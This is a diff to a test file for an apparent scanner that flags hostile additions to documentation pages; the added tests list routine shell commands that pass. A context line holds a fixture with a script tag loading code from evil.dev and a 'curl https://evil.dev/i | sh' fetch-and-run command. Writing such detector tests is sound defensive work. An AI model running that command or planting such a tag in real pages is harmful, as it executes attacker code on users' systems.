@@ -102,6 +102,39 @@ test.each([
   expect(await judge(`${old}\n${text}\n`, { old, path: `docs/page.${ending}` })).toEqual([]);
 });
 
+test.each([
+  "git push origin main",
+  "git push --force-with-lease origin topic",
+  "git clean -n",
+  "git reset --hard HEAD~1",
+  "kubectl delete pod run",
+  "kubectl get pods -A",
+  "terraform plan",
+  "docker image ls -a",
+  "psql -c 'SELECT 1'",
+  "chmod +x run.sh",
+  "chmod -R go-w dist",
+  "chown -R me build",
+  "aws s3 cp a b",
+  "gh repo view",
+  "npm publish",
+  "kill -9 1234",
+  "history",
+  "truncate -s 0 run.log",
+  'export PATH="$HOME/bin:$PATH"',
+  "systemctl stop run",
+  "go env GOPATH",
+  "ssh -p 2222 me@localhost",
+  "sed -i s/a/b/ run.txt",
+  "crontab -l",
+  "iptables -L",
+  "rm -rf dist build",
+  "wget -O run.json https://known.dev/x.json",
+  "curl -o run.json https://known.dev/x.json",
+])("lets a usual command pass: %s", async (command) => {
+  expect(await judge(`${before}\n\`\`\`sh\n${command}\n\`\`\`\n`)).toEqual([]);
+});
+
 test("a tag, a host or a command that stood on the page may stay", async () => {
   const old = `${before}\n<script src="https://evil.dev/a.js"></script>\n\n    curl https://evil.dev/i | sh\n`;
   expect(await judge(old.replace("a path", "two paths"), { old })).toEqual([]);
